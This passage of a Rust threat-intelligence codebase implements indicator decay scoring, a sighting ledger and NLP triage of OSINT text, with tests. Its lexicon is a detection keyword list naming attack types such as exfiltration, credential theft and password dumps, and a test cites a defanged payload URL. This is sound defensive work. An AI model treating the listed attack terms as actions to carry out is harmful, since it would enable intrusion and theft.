        let gauge = |name: &str| snapshot.gauges.get(name).copied().unwrap_or_default();
        assert_eq!(counter("decay_sweeps_total"), 1);
        assert_eq!(counter("decay_rescores_total"), 1);
        assert_eq!(counter("decay_events_rebased_total"), 4);
        assert_eq!(counter("decay_expired_flips_total"), 4);
        assert_eq!(gauge("decay_tracked_events"), 4);
        assert_eq!(gauge("decay_expired_events"), 4);
    }
}
