//! The decay curve: how a base score erodes between sightings.
//!
//! The model is the one the CIRCL *Decaying Indicators of Compromise*
//! work attaches to MISP attributes:
//!
//! ```text
//! score(t) = base · (1 − (t/τ)^(1/δ))
//! ```
//!
//! where `t` is the time since the indicator was last sighted, `τ`
//! (tau) is the lifetime after which the score reaches zero, and `δ`
//! (delta) shapes the curve — `δ < 1` holds its value and falls off
//! late (the exponent `1/δ` keeps `(t/τ)^(1/δ)` tiny early on), `δ = 1`
//! decays linearly, `δ > 1` drops fast then flattens. A sighting
//! resets `t` to zero, restoring the full base score.

use serde::{Deserialize, Serialize};

/// Parameters of one decay curve plus the expiry cut-off.
///
/// # Examples
///
/// ```
/// use cais_decay::DecayModel;
///
/// let model = DecayModel::default();
/// // A fresh indicator keeps its base score…
/// assert_eq!(model.score_at(4.0, 0.0), 4.0);
/// // …and is worthless once τ days have passed without a sighting.
/// assert_eq!(model.score_at(4.0, model.tau_days), 0.0);
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct DecayModel {
    /// Lifetime in days: the time-to-zero without sightings.
    pub tau_days: f64,
    /// Curve shape; must be positive. Larger values decay faster
    /// early on; smaller values hold the score and drop near `τ`.
    pub delta: f64,
    /// Scores strictly below this are expired (dropped from exports).
    pub threshold: f64,
}

impl Default for DecayModel {
    /// The CIRCL defaults: 30-day lifetime, hold-then-drop shape
    /// (δ = 0.3), expiry when the score falls below 1.
    fn default() -> Self {
        DecayModel {
            tau_days: 30.0,
            delta: 0.3,
            threshold: 1.0,
        }
    }
}

impl DecayModel {
    /// A model with an explicit lifetime and shape, keeping the default
    /// expiry threshold.
    pub fn new(tau_days: f64, delta: f64) -> Self {
        DecayModel {
            tau_days,
            delta,
            ..DecayModel::default()
        }
    }

    /// Sets the expiry threshold.
    pub fn with_threshold(mut self, threshold: f64) -> Self {
        self.threshold = threshold;
        self
    }

    /// The decayed score `elapsed_days` after the last sighting.
    /// Negative elapsed time (a sighting "in the future" of a virtual
    /// clock) is treated as zero; scores never go below zero.
    pub fn score_at(&self, base: f64, elapsed_days: f64) -> f64 {
        let t = elapsed_days.max(0.0);
        if self.tau_days <= 0.0 || t >= self.tau_days {
            return 0.0;
        }
        let decay = (t / self.tau_days).powf(1.0 / self.delta.max(f64::MIN_POSITIVE));
        (base * (1.0 - decay)).max(0.0)
    }

    /// Whether a score is below the expiry cut-off.
    pub fn is_expired(&self, score: f64) -> bool {
        score < self.threshold
    }

    /// Days after a sighting until `base` decays to the threshold — the
    /// indicator's useful lifetime: `τ · (1 − threshold/base)^δ`.
    /// Returns 0 for bases at or below the threshold.
    pub fn lifetime_days(&self, base: f64) -> f64 {
        if base <= self.threshold || base <= 0.0 {
            return 0.0;
        }
        self.tau_days * (1.0 - self.threshold / base).powf(self.delta)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fresh_score_is_the_base_and_tau_is_zero() {
        let model = DecayModel::new(30.0, 0.3);
        assert_eq!(model.score_at(3.5, 0.0), 3.5);
        assert_eq!(model.score_at(3.5, 30.0), 0.0);
        assert_eq!(model.score_at(3.5, 99.0), 0.0);
        assert_eq!(model.score_at(3.5, -4.0), 3.5);
    }

    #[test]
    fn closed_form_matches_at_half_life() {
        // t = τ/2, δ = 1 → linear: half the base remains.
        let linear = DecayModel::new(20.0, 1.0);
        assert!((linear.score_at(4.0, 10.0) - 2.0).abs() < 1e-12);
        // δ = 0.5 → (1/2)^2 = 1/4 decayed, 3/4 remains.
        let slow = DecayModel::new(20.0, 0.5);
        assert!((slow.score_at(4.0, 10.0) - 3.0).abs() < 1e-12);
    }

    #[test]
    fn larger_delta_decays_faster_early() {
        let fast = DecayModel::new(30.0, 3.0);
        let slow = DecayModel::new(30.0, 0.3);
        assert!(fast.score_at(5.0, 3.0) < slow.score_at(5.0, 3.0));
    }

    #[test]
    fn score_is_monotone_in_elapsed_time() {
        let model = DecayModel::default();
        let mut last = f64::INFINITY;
        for day in 0..=30 {
            let score = model.score_at(5.0, f64::from(day));
            assert!(score <= last, "day {day}: {score} > {last}");
            assert!(score >= 0.0);
            last = score;
        }
    }

    #[test]
    fn lifetime_inverts_the_curve() {
        let model = DecayModel::default().with_threshold(1.0);
        let base = 4.0;
        let lifetime = model.lifetime_days(base);
        assert!(lifetime > 0.0 && lifetime < model.tau_days);
        let at_lifetime = model.score_at(base, lifetime);
        assert!((at_lifetime - model.threshold).abs() < 1e-9);
        assert!(!model.is_expired(at_lifetime));
        assert!(model.is_expired(model.score_at(base, lifetime + 0.01)));
        assert_eq!(model.lifetime_days(0.5), 0.0);
    }
}
