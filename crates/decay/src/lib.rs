//! # cais-decay — indicator lifecycle engine
//!
//! Shared indicators rot: an IP seen in one campaign is near-worthless
//! a month later unless someone sights it again. This crate gives the
//! platform's stored eIoCs a lifecycle, following the CIRCL decaying-
//! indicators model the paper's MISP deployment enables:
//!
//! 1. **Base score** — per-taxonomy weight vectors over the event's
//!    machine tags, computed through the same `heuristics` engine that
//!    scores ingest ([`taxonomy`]).
//! 2. **Decay curve** — `score(t) = base · (1 − (t/τ)^(1/δ))`, with a
//!    sighting resetting `t` ([`model`], [`ledger`]).
//! 3. **Incremental rescoring** — the engine consumes the store's
//!    per-event version counters, so a rescore pass re-derives bases
//!    only for churned events and is a lookup-plus-multiply for the
//!    rest ([`engine`]).
//! 4. **Expiry sweeps** — events decayed below the threshold are
//!    tagged and unpublished; the resulting version bump invalidates
//!    every downstream byte cache (share exporter, TAXII pages), so a
//!    stale decayed score is never served.
//!
//! Time is injected via [`cais_common::resilience::Clock`]: virtual in
//! tests and benches, wall-clock in production.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod engine;
pub mod ledger;
pub mod model;
pub mod taxonomy;

pub use engine::{
    DecayEngine, RescoreSummary, RescoredEvent, SweepSummary, DECAY_SCORE_PREDICATE,
    DECAY_STATE_PREDICATE, DECAY_TAG_NAMESPACE,
};
pub use ledger::{SightingLedger, SightingRecord};
pub use model::DecayModel;
pub use taxonomy::{BaseScorer, TaxonomyProfile};
