//! The sighting ledger: when was each indicator last confirmed alive.
//!
//! The decay clock for an event starts at its *last sighting*, not its
//! creation — a sighting resets `t` in `score(t)` to zero. The ledger
//! keys on the event **uuid** (stable across stores and shares, unlike
//! the local numeric id) and keeps both the freshest timestamp, which
//! drives the curve, and a count, which dashboards surface.

use std::collections::HashMap;

use cais_common::{Timestamp, Uuid};
use serde::{Deserialize, Serialize};

/// What the ledger knows about one indicator's sightings.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct SightingRecord {
    /// Freshest sighting — the decay anchor.
    pub last_seen: Timestamp,
    /// How many sightings have been recorded in total.
    pub count: u64,
}

/// Sightings per event uuid. Plain data: the engine owns the lock.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct SightingLedger {
    records: HashMap<Uuid, SightingRecord>,
}

impl SightingLedger {
    /// An empty ledger.
    pub fn new() -> Self {
        SightingLedger::default()
    }

    /// Records a sighting of `uuid` at `seen_at`. Out-of-order arrivals
    /// are fine: the anchor only moves forward, but every report counts.
    pub fn record(&mut self, uuid: Uuid, seen_at: Timestamp) {
        let entry = self.records.entry(uuid).or_insert(SightingRecord {
            last_seen: seen_at,
            count: 0,
        });
        entry.last_seen = entry.last_seen.max(seen_at);
        entry.count += 1;
    }

    /// The decay anchor for `uuid`, if any sighting was ever recorded.
    pub fn last_seen(&self, uuid: &Uuid) -> Option<Timestamp> {
        self.records.get(uuid).map(|r| r.last_seen)
    }

    /// Total sightings recorded for `uuid`.
    pub fn count(&self, uuid: &Uuid) -> u64 {
        self.records.get(uuid).map_or(0, |r| r.count)
    }

    /// Number of distinct indicators with at least one sighting.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether no sighting has ever been recorded.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// Drops records whose uuid fails the predicate — used when events
    /// leave the store for good.
    pub fn retain(&mut self, mut keep: impl FnMut(&Uuid) -> bool) {
        self.records.retain(|uuid, _| keep(uuid));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn records_keep_the_freshest_timestamp() {
        let mut ledger = SightingLedger::new();
        let uuid = Uuid::new_v4();
        let early = Timestamp::from_unix_millis(1_000);
        let late = Timestamp::from_unix_millis(9_000);

        assert!(ledger.last_seen(&uuid).is_none());
        ledger.record(uuid, late);
        ledger.record(uuid, early); // out of order: anchor must not move back
        assert_eq!(ledger.last_seen(&uuid), Some(late));
        assert_eq!(ledger.count(&uuid), 2);
        assert_eq!(ledger.len(), 1);
    }

    #[test]
    fn retain_drops_departed_indicators() {
        let mut ledger = SightingLedger::new();
        let keep = Uuid::new_v4();
        let drop = Uuid::new_v4();
        ledger.record(keep, Timestamp::from_unix_millis(5));
        ledger.record(drop, Timestamp::from_unix_millis(5));

        ledger.retain(|uuid| *uuid == keep);
        assert_eq!(ledger.len(), 1);
        assert!(ledger.last_seen(&drop).is_none());
        assert_eq!(ledger.count(&keep), 1);
    }
}
