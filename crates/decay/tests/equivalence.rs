//! Property test for the decay engine's central contract: for **any**
//! interleaving of sightings, store churn, expiry sweeps, inserts and
//! clock advances, the incremental rescore (changelog-driven base
//! reuse) must agree exactly with the from-scratch oracle that
//! re-derives every base from the event's tags.

use std::sync::Arc;

use cais_common::resilience::{Clock, VirtualClock};
use cais_common::time::MILLIS_PER_DAY;
use cais_common::Timestamp;
use cais_decay::{BaseScorer, DecayEngine, DecayModel};
use cais_misp::{MispEvent, MispStore, Tag};
use proptest::prelude::*;

/// One tagged, published event; tag values derive from the index so
/// the population spans distinct base scores.
fn seeded_event(i: usize, date: Timestamp) -> MispEvent {
    let mut event = MispEvent::new(format!("indicator {i}"));
    event.date = date;
    let value = ((i % 5) + 1).to_string();
    event.add_tag(Tag::machine("cais-conf", "reliability", &value));
    event.add_tag(Tag::machine("cais-conf", "freshness", "3"));
    if !i.is_multiple_of(3) {
        event.add_tag(Tag::machine("cais-conf", "corroboration", "4"));
    }
    event
}

proptest! {
    #[test]
    fn incremental_rescore_matches_the_from_scratch_oracle(
        initial in 2usize..8,
        ops in prop::collection::vec((0u8..5, 0usize..32, 1i64..9), 1..24),
    ) {
        let clock = VirtualClock::starting_at(Timestamp::from_unix_millis(
            40 * MILLIS_PER_DAY,
        ));
        let engine = DecayEngine::new(
            DecayModel::new(20.0, 1.0).with_threshold(1.0),
            BaseScorer::cais_default(),
            Arc::new(clock.clone()),
        );
        let store = MispStore::new();
        let mut count = 0usize;
        for i in 0..initial {
            let id = store.insert(seeded_event(i, clock.now())).unwrap();
            store.publish(id).unwrap();
            count += 1;
        }

        for (kind, idx, days) in ops {
            let id = (idx % count) as u64 + 1;
            match kind {
                // Churn: a content edit that bumps the version.
                0 => store.update(id, |event| event.info.push('!')).unwrap(),
                // Sighting, possibly backdated.
                1 => {
                    let uuid = store.get(id).unwrap().uuid;
                    engine.record_sighting(uuid, clock.now().add_days(-days));
                }
                // Time passes.
                2 => clock.advance_days(days),
                // Expiry sweep: flips write back into the store.
                3 => {
                    engine.sweep(&store).unwrap();
                }
                // A new indicator arrives mid-stream.
                _ => {
                    let id = store.insert(seeded_event(count, clock.now())).unwrap();
                    store.publish(id).unwrap();
                    count += 1;
                }
            }

            let (incremental, summary) = engine.rescore(&store);
            let scratch = engine.score_from_scratch(&store);
            prop_assert_eq!(&incremental, &scratch);
            prop_assert_eq!(summary.scored, count);
            prop_assert_eq!(summary.rebased + summary.reused, summary.scored);
        }
    }
}
