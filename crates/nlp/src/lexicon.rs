//! The multilingual threat-keyword lexicon.
//!
//! Each entry maps a keyword or two-word phrase (already lowercased) to
//! a [`ThreatType`] with a weight in (0, 1]: unambiguous terms like
//! `ransomware` carry high weight, generic terms like `attack` carry
//! low weight. Five languages are covered — English, Spanish,
//! Portuguese, French and German — matching the paper's "major
//! languages" requirement.

use std::fmt;

use serde::{Deserialize, Serialize};

/// The threat type a keyword indicates.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
#[allow(missing_docs)]
pub enum ThreatType {
    Ddos,
    DataBreach,
    Leak,
    Ransomware,
    Phishing,
    Malware,
    Exploit,
    Intrusion,
    CredentialTheft,
    Defacement,
}

impl ThreatType {
    /// All threat types.
    pub const ALL: [ThreatType; 10] = [
        ThreatType::Ddos,
        ThreatType::DataBreach,
        ThreatType::Leak,
        ThreatType::Ransomware,
        ThreatType::Phishing,
        ThreatType::Malware,
        ThreatType::Exploit,
        ThreatType::Intrusion,
        ThreatType::CredentialTheft,
        ThreatType::Defacement,
    ];
}

impl fmt::Display for ThreatType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            ThreatType::Ddos => "ddos",
            ThreatType::DataBreach => "data-breach",
            ThreatType::Leak => "leak",
            ThreatType::Ransomware => "ransomware",
            ThreatType::Phishing => "phishing",
            ThreatType::Malware => "malware",
            ThreatType::Exploit => "exploit",
            ThreatType::Intrusion => "intrusion",
            ThreatType::CredentialTheft => "credential-theft",
            ThreatType::Defacement => "defacement",
        };
        f.write_str(name)
    }
}

/// Languages the lexicon covers.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[allow(missing_docs)]
pub enum Language {
    English,
    Spanish,
    Portuguese,
    French,
    German,
}

/// One lexicon entry.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Entry {
    pub keyword: &'static str,
    pub threat: ThreatType,
    pub weight: f64,
    pub language: Language,
}

macro_rules! entries {
    ($($kw:literal => $threat:ident, $weight:literal, $lang:ident;)*) => {
        &[$(Entry {
            keyword: $kw,
            threat: ThreatType::$threat,
            weight: $weight,
            language: Language::$lang,
        }),*]
    };
}

/// The built-in lexicon.
pub(crate) const LEXICON: &[Entry] = entries![
    // --- English ---
    "ddos" => Ddos, 0.95, English;
    "denial-of-service" => Ddos, 0.95, English;
    "denial of service" => Ddos, 0.95, English;
    "amplification attack" => Ddos, 0.8, English;
    "botnet" => Ddos, 0.5, English;
    "data breach" => DataBreach, 0.95, English;
    "security breach" => DataBreach, 0.9, English;
    "breach" => DataBreach, 0.5, English;
    "exfiltration" => DataBreach, 0.8, English;
    "stolen records" => DataBreach, 0.8, English;
    "leak" => Leak, 0.7, English;
    "leaked" => Leak, 0.7, English;
    "data leak" => Leak, 0.9, English;
    "exposed database" => Leak, 0.85, English;
    "ransomware" => Ransomware, 0.98, English;
    "ransom" => Ransomware, 0.6, English;
    "encrypted files" => Ransomware, 0.5, English;
    "phishing" => Phishing, 0.95, English;
    "spearphishing" => Phishing, 0.95, English;
    "credential harvesting" => Phishing, 0.85, English;
    "fake login" => Phishing, 0.75, English;
    "malware" => Malware, 0.85, English;
    "trojan" => Malware, 0.8, English;
    "spyware" => Malware, 0.8, English;
    "backdoor" => Malware, 0.75, English;
    "worm" => Malware, 0.5, English;
    "exploit" => Exploit, 0.8, English;
    "zero-day" => Exploit, 0.95, English;
    "remote code execution" => Exploit, 0.95, English;
    "code execution" => Exploit, 0.8, English;
    "vulnerability" => Exploit, 0.6, English;
    "privilege escalation" => Exploit, 0.85, English;
    "sql injection" => Exploit, 0.9, English;
    "intrusion" => Intrusion, 0.8, English;
    "unauthorized access" => Intrusion, 0.85, English;
    "compromised" => Intrusion, 0.6, English;
    "lateral movement" => Intrusion, 0.85, English;
    "credential theft" => CredentialTheft, 0.9, English;
    "password dump" => CredentialTheft, 0.85, English;
    "credentials stolen" => CredentialTheft, 0.9, English;
    "defacement" => Defacement, 0.9, English;
    "defaced" => Defacement, 0.9, English;
    // --- Spanish ---
    "denegación de servicio" => Ddos, 0.95, Spanish;
    "ataque ddos" => Ddos, 0.95, Spanish;
    "fuga de datos" => Leak, 0.9, Spanish;
    "fuga de información" => Leak, 0.9, Spanish;
    "filtración" => Leak, 0.7, Spanish;
    "brecha de seguridad" => DataBreach, 0.9, Spanish;
    "secuestro de datos" => Ransomware, 0.9, Spanish;
    "suplantación" => Phishing, 0.7, Spanish;
    "vulnerabilidad" => Exploit, 0.6, Spanish;
    "acceso no autorizado" => Intrusion, 0.85, Spanish;
    "robo de credenciales" => CredentialTheft, 0.9, Spanish;
    // --- Portuguese ---
    "negação de serviço" => Ddos, 0.95, Portuguese;
    "vazamento de dados" => Leak, 0.9, Portuguese;
    "violação de dados" => DataBreach, 0.9, Portuguese;
    "resgate" => Ransomware, 0.5, Portuguese;
    "vulnerabilidade" => Exploit, 0.6, Portuguese;
    "acesso não autorizado" => Intrusion, 0.85, Portuguese;
    "roubo de credenciais" => CredentialTheft, 0.9, Portuguese;
    // --- French ---
    "déni de service" => Ddos, 0.95, French;
    "fuite de données" => Leak, 0.9, French;
    "violation de données" => DataBreach, 0.9, French;
    "rançongiciel" => Ransomware, 0.95, French;
    "hameçonnage" => Phishing, 0.95, French;
    "logiciel malveillant" => Malware, 0.85, French;
    "vulnérabilité" => Exploit, 0.6, French;
    "accès non autorisé" => Intrusion, 0.85, French;
    // --- German ---
    "datenleck" => Leak, 0.9, German;
    "datenpanne" => DataBreach, 0.85, German;
    "erpressungstrojaner" => Ransomware, 0.95, German;
    "schadsoftware" => Malware, 0.85, German;
    "sicherheitslücke" => Exploit, 0.8, German;
    "unbefugter zugriff" => Intrusion, 0.85, German;
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lexicon_weights_are_in_range() {
        for entry in LEXICON {
            assert!(
                entry.weight > 0.0 && entry.weight <= 1.0,
                "{} has weight {}",
                entry.keyword,
                entry.weight
            );
        }
    }

    #[test]
    fn lexicon_keywords_are_lowercase() {
        for entry in LEXICON {
            assert_eq!(
                entry.keyword,
                entry.keyword.to_lowercase(),
                "{} is not lowercase",
                entry.keyword
            );
        }
    }

    #[test]
    fn lexicon_has_no_duplicate_keywords() {
        let mut keywords: Vec<&str> = LEXICON.iter().map(|e| e.keyword).collect();
        keywords.sort_unstable();
        let before = keywords.len();
        keywords.dedup();
        assert_eq!(keywords.len(), before);
    }

    #[test]
    fn every_language_is_represented() {
        for lang in [
            Language::English,
            Language::Spanish,
            Language::Portuguese,
            Language::French,
            Language::German,
        ] {
            assert!(
                LEXICON.iter().any(|e| e.language == lang),
                "{lang:?} missing"
            );
        }
    }

    #[test]
    fn paper_examples_are_covered() {
        // "keywords that typically indicate a threat … such as ddos,
        // security breach, leak" (Section II-A).
        for kw in ["ddos", "security breach", "leak"] {
            assert!(LEXICON.iter().any(|e| e.keyword == kw), "{kw} missing");
        }
    }
}
