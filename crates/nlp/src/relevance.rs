//! Infrastructure-aware relevance tagging.
//!
//! Section II-A: NLP output "can be used to tag OSINT data as relevant
//! or irrelevant" for the monitored infrastructure. This module fuses
//! the two signals this crate produces — threat language (the
//! classifier) and named entities — with the caller-supplied list of
//! infrastructure product names: a text is *relevant* when it talks
//! about a threat **and** either names software we run or names no
//! product at all (generic threats still matter).

use serde::{Deserialize, Serialize};

use crate::classify::{ThreatClassifier, Verdict};
use crate::entity::{extract_entities, EntityKind};

/// The relevance tag attached to an OSINT text.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RelevanceTag {
    /// Whether the text should reach the analyst at all.
    pub relevant: bool,
    /// Combined confidence in (0, 1): classifier confidence, boosted
    /// when infrastructure software is named.
    pub confidence: f64,
    /// Products mentioned that the infrastructure runs.
    pub matched_products: Vec<String>,
    /// Products mentioned that the infrastructure does not run.
    pub foreign_products: Vec<String>,
    /// The underlying threat verdict.
    pub verdict: Verdict,
}

/// Tags one text against the infrastructure's product names
/// (lowercase).
///
/// # Examples
///
/// ```
/// use cais_nlp::relevance::tag;
///
/// let products = ["apache struts".to_owned(), "gitlab".to_owned()];
/// let hit = tag(
///     "Remote code execution exploit published for Apache Struts",
///     &products,
/// );
/// assert!(hit.relevant);
/// assert!(hit.matched_products.contains(&"apache struts".to_owned()));
///
/// let miss = tag(
///     "Exploit campaign targets SharePoint servers exclusively",
///     &products,
/// );
/// assert!(!miss.relevant);
/// ```
pub fn tag(text: &str, infrastructure_products: &[String]) -> RelevanceTag {
    let verdict = ThreatClassifier::new().classify(text);
    let entities = extract_entities(text);
    let mut matched = Vec::new();
    let mut foreign = Vec::new();
    for entity in entities {
        if entity.kind != EntityKind::Product {
            continue;
        }
        let runs_it = infrastructure_products.iter().any(|p| {
            let p = p.to_ascii_lowercase();
            p == entity.value
                || p.split_whitespace().any(|w| w == entity.value)
                || entity.value.split_whitespace().any(|w| w == p)
        });
        if runs_it {
            if !matched.contains(&entity.value) {
                matched.push(entity.value);
            }
        } else if !foreign.contains(&entity.value) {
            foreign.push(entity.value);
        }
    }
    let threatens = verdict.is_relevant();
    // Product evidence decides when present; absent products leave the
    // threat verdict in charge.
    let relevant = threatens && (matched.is_empty() == foreign.is_empty() || !matched.is_empty());
    let confidence = if !threatens {
        0.0
    } else if !matched.is_empty() {
        // Named, installed software: corroborated.
        (verdict.confidence() + 1.0) / 2.0
    } else if !foreign.is_empty() {
        // Named software we do not run: attenuated.
        verdict.confidence() * 0.3
    } else {
        verdict.confidence()
    };
    RelevanceTag {
        relevant,
        confidence,
        matched_products: matched,
        foreign_products: foreign,
        verdict,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn products() -> Vec<String> {
        vec![
            "apache struts".to_owned(),
            "gitlab".to_owned(),
            "php".to_owned(),
        ]
    }

    #[test]
    fn threat_naming_our_software_is_relevant() {
        let tag = tag(
            "zero-day exploit in apache struts under active exploitation",
            &products(),
        );
        assert!(tag.relevant);
        assert!(tag.confidence > 0.5);
        assert!(tag.matched_products.contains(&"struts".to_owned()));
    }

    #[test]
    fn threat_naming_only_foreign_software_is_irrelevant() {
        let result = tag("ransomware campaign hits exchange servers", &products());
        assert!(!result.relevant);
        assert!(result.foreign_products.contains(&"exchange".to_owned()));
        // Confidence is attenuated but the verdict is preserved for audit.
        assert!(result.verdict.is_relevant());
    }

    #[test]
    fn generic_threat_without_products_stays_relevant() {
        let result = tag("massive ddos attack disrupts european banks", &products());
        assert!(result.relevant);
        assert!(result.matched_products.is_empty());
        assert!(result.foreign_products.is_empty());
    }

    #[test]
    fn non_threat_text_is_never_relevant() {
        let result = tag(
            "apache struts 2.5.13 released with performance fixes",
            &products(),
        );
        assert!(!result.relevant);
        assert_eq!(result.confidence, 0.0);
    }

    #[test]
    fn mixed_mentions_lean_relevant() {
        // Both our software and foreign software named: relevant.
        let result = tag(
            "sql injection exploit chain hits wordpress and php deployments",
            &products(),
        );
        assert!(result.relevant);
        assert!(!result.matched_products.is_empty());
        assert!(!result.foreign_products.is_empty());
    }

    #[test]
    fn serde_roundtrip() {
        let result = tag("phishing kit targets gitlab credentials", &products());
        let json = serde_json::to_string(&result).unwrap();
        let back: RelevanceTag = serde_json::from_str(&json).unwrap();
        assert_eq!(back, result);
    }
}
