//! Entity extraction: locations, organizations, products and
//! observables mentioned in OSINT text.

use cais_common::observable;
use serde::{Deserialize, Serialize};

use crate::token::tokenize;

/// The kind of an extracted entity.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum EntityKind {
    /// A country or major city from the gazetteer.
    Location,
    /// An organization (suffix heuristic or known-vendor list).
    Organization,
    /// A software product from the product list.
    Product,
    /// A technical observable (IP, domain, hash, CVE, URL, e-mail).
    Observable,
}

/// An entity found in text.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Entity {
    /// What kind of entity this is.
    pub kind: EntityKind,
    /// The matched text, normalized to lowercase except observables
    /// (which keep observable normalization).
    pub value: String,
}

/// Countries and major cities recognized as locations.
const GAZETTEER: &[&str] = &[
    "spain",
    "portugal",
    "france",
    "germany",
    "italy",
    "netherlands",
    "belgium",
    "poland",
    "ukraine",
    "russia",
    "china",
    "india",
    "japan",
    "brazil",
    "mexico",
    "canada",
    "australia",
    "madrid",
    "barcelona",
    "lisbon",
    "porto",
    "paris",
    "berlin",
    "london",
    "amsterdam",
    "kyiv",
    "moscow",
    "beijing",
    "tokyo",
    "mumbai",
    "united states",
    "united kingdom",
    "south korea",
];

/// Known security/software vendors and institutions.
const KNOWN_ORGS: &[&str] = &[
    "microsoft",
    "apache",
    "oracle",
    "cisco",
    "google",
    "amazon",
    "ibm",
    "siemens",
    "sap",
    "mozilla",
    "adobe",
    "vmware",
    "citrix",
    "fortinet",
    "kaspersky",
    "symantec",
    "gitlab",
    "owncloud",
    "atos",
    "interpol",
    "europol",
    "nist",
    "mitre",
];

/// Organization suffixes (token must follow a capitalized-ish name; the
/// tokenizer lowercases, so the heuristic keys on the suffix alone and
/// attaches the preceding token).
const ORG_SUFFIXES: &[&str] = &["inc", "corp", "ltd", "gmbh", "s.a", "llc", "plc", "ag"];

/// Software products whose mention matters for inventory matching.
const PRODUCTS: &[&str] = &[
    "struts",
    "apache struts",
    "tomcat",
    "windows",
    "linux",
    "debian",
    "ubuntu",
    "centos",
    "gitlab",
    "owncloud",
    "wordpress",
    "drupal",
    "openssl",
    "nginx",
    "exchange",
    "sharepoint",
    "jenkins",
    "docker",
    "kubernetes",
    "mysql",
    "postgresql",
    "php",
    "log4j",
    "zookeeper",
    "storm",
    "snort",
    "suricata",
    "ossec",
];

/// Extracts every recognizable entity from free text.
///
/// # Examples
///
/// ```
/// use cais_nlp::{extract_entities, EntityKind};
///
/// let entities = extract_entities(
///     "Apache Struts exploited in Spain; C2 at 203.0.113.9 run by Evil Corp",
/// );
/// assert!(entities.iter().any(|e| e.kind == EntityKind::Product && e.value == "struts"));
/// assert!(entities.iter().any(|e| e.kind == EntityKind::Location && e.value == "spain"));
/// assert!(entities.iter().any(|e| e.kind == EntityKind::Observable));
/// assert!(entities.iter().any(|e| e.kind == EntityKind::Organization));
/// ```
pub fn extract_entities(text: &str) -> Vec<Entity> {
    let tokens = tokenize(text);
    let mut entities = Vec::new();

    // Single tokens and bigrams against the gazetteers.
    let mut grams: Vec<String> = tokens.clone();
    for window in tokens.windows(2) {
        grams.push(format!("{} {}", window[0], window[1]));
    }
    for gram in &grams {
        if GAZETTEER.contains(&gram.as_str()) {
            push_unique(&mut entities, EntityKind::Location, gram);
        }
        if KNOWN_ORGS.contains(&gram.as_str()) {
            push_unique(&mut entities, EntityKind::Organization, gram);
        }
        if PRODUCTS.contains(&gram.as_str()) {
            push_unique(&mut entities, EntityKind::Product, gram);
        }
    }

    // Suffix-based organizations: "<name> corp", "<name> gmbh", …
    for window in tokens.windows(2) {
        if ORG_SUFFIXES.contains(&window[1].as_str()) {
            push_unique(
                &mut entities,
                EntityKind::Organization,
                &format!("{} {}", window[0], window[1]),
            );
        }
    }

    // Technical observables via the shared detectors.
    for obs in observable::extract(text) {
        push_unique(&mut entities, EntityKind::Observable, obs.value());
    }

    entities
}

fn push_unique(entities: &mut Vec<Entity>, kind: EntityKind, value: &str) {
    let entity = Entity {
        kind,
        value: value.to_owned(),
    };
    if !entities.contains(&entity) {
        entities.push(entity);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn extracts_all_kinds() {
        let entities = extract_entities(
            "Ransomware hits Lisbon hospital; Kaspersky attributes it to Shadow Ltd, \
             payload at hxxp://drop.example/x, affects Debian and Apache Struts, \
             see CVE-2017-9805.",
        );
        let has = |kind, value: &str| entities.iter().any(|e| e.kind == kind && e.value == value);
        assert!(has(EntityKind::Location, "lisbon"));
        assert!(has(EntityKind::Organization, "kaspersky"));
        assert!(has(EntityKind::Organization, "shadow ltd"));
        assert!(has(EntityKind::Product, "debian"));
        assert!(has(EntityKind::Product, "apache struts"));
        assert!(has(EntityKind::Observable, "CVE-2017-9805"));
        assert!(has(EntityKind::Observable, "hxxp://drop.example/x"));
    }

    #[test]
    fn two_word_locations() {
        let entities = extract_entities("outage reported across the United States");
        assert!(entities
            .iter()
            .any(|e| e.kind == EntityKind::Location && e.value == "united states"));
    }

    #[test]
    fn no_entities_in_plain_text() {
        assert!(extract_entities("nothing to see here at all").is_empty());
    }

    #[test]
    fn duplicates_are_collapsed() {
        let entities = extract_entities("spain spain spain");
        assert_eq!(entities.len(), 1);
    }

    #[test]
    fn gazetteers_are_lowercase() {
        for list in [GAZETTEER, KNOWN_ORGS, PRODUCTS] {
            for item in list {
                assert_eq!(*item, item.to_lowercase());
            }
        }
    }
}
