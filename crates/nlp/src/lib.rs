//! # cais-nlp
//!
//! Lightweight natural-language processing for OSINT triage: a
//! tokenizer, a multilingual threat-keyword lexicon, a weighted keyword
//! classifier with calibrated confidence, and entity extraction
//! (locations, organizations, observables).
//!
//! Section II-A of the paper calls for "natural language processing
//! techniques to identify threats from the use of keywords that
//! typically indicate a threat in major languages; such as ddos,
//! security breach, leak and more", tagging OSINT data as relevant or
//! irrelevant, extracting "location and entities involved", and
//! forwarding "the prediction confidence of the classifier … to SIEMs".
//! This crate is that component.
//!
//! # Examples
//!
//! ```
//! use cais_nlp::{ThreatClassifier, ThreatType};
//!
//! let classifier = ThreatClassifier::new();
//! let verdict = classifier.classify(
//!     "Massive DDoS amplification attack takes down banking portal",
//! );
//! assert!(verdict.is_relevant());
//! assert_eq!(verdict.top_threat(), Some(ThreatType::Ddos));
//! assert!(verdict.confidence() > 0.5);
//! ```

